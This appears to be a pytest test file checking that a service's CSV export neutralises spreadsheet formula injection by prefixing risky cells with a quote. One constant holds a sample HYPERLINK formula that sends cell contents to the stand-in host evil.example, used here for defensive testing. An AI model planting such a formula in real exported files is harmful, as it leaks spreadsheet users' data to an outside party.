"""The CSV files the service writes: no cell a spreadsheet would run as a formula, read back as written."""

import csv
import io

import pytest

from licensing.csvfiles import csv_writer, neutral, read_back, restored

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted once: one more, so it reads back as it was
        ("O'Brien", "O'Brien"),
        ("'Abdullah", "'Abdullah"),
        ("Smith-Jones", "Smith-Jones"),
        ("R1", "R1"),
        ("", ""),
        (3, 3),  # a number the service writes itself (a line number) is left a number
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_is_prefixed_with_a_quote(cell, written):
    assert neutral(cell) == written
    if isinstance(cell, str):
        assert restored(written) == cell


def test_every_cell_is_quoted_so_a_semicolon_cannot_start_a_new_cell():
    out = io.StringIO()
    csv_writer(out).writerow(["R1", "x;=1+1", 2])
    assert out.getvalue() == '"R1","x;=1+1","2"\r\n'


def test_a_file_written_reads_back_as_the_values_given():
    rows = [["ref", "=name"], [ATTACK, "''-x"], ["Smith-Jones", "@me"]]
    out = io.StringIO()
    csv_writer(out).writerows(rows)
    assert [list(row) for row in csv.reader(io.StringIO(out.getvalue()))][1][0] == "'" + ATTACK
    assert read_back(out.getvalue()) == [
        {"ref": ATTACK, "=name": "''-x"},
        {"ref": "Smith-Jones", "=name": "@me"},
    ]
